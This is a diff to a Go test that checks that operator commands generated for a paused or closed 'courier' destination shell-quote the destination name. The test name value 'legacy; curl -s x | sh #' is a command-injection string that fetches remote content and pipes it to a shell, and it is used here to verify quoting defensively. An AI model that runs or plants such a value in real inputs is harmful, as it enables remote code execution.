@@ -94,9 +94,9 @@ func TestOpenDetails(t *testing.T) {
 // operator pastes.
 func TestDetailsQuoteTheName(t *testing.T) {
 	name := "legacy; curl -s x | sh #"
-	md := gateDetails(t, DestinationState{Name: name, State: Closed, Since: detailsAt, Breaker: Breaker{State: Closed}})
+	md := details(DestinationState{Name: name, State: Closed, Since: detailsAt, Breaker: Breaker{State: Closed}}, "ns")
 	require.Contains(t, md, "courier destination pause 'legacy; curl -s x | sh #' \\\n  --reason")
-	md = gateDetails(t, DestinationState{Name: name, State: Paused, Since: detailsAt, Breaker: Breaker{State: Closed},
-		Paused: &Pause{Reason: "r", By: "alice", Since: detailsAt}})
+	md = details(DestinationState{Name: name, State: Paused, Since: detailsAt, Breaker: Breaker{State: Closed},
+		Paused: &Pause{Reason: "r", By: "alice", Since: detailsAt}}, "ns")
 	require.Contains(t, md, "courier destination resume 'legacy; curl -s x | sh #' \\\n  --by <YOUR-NAME>")
 }
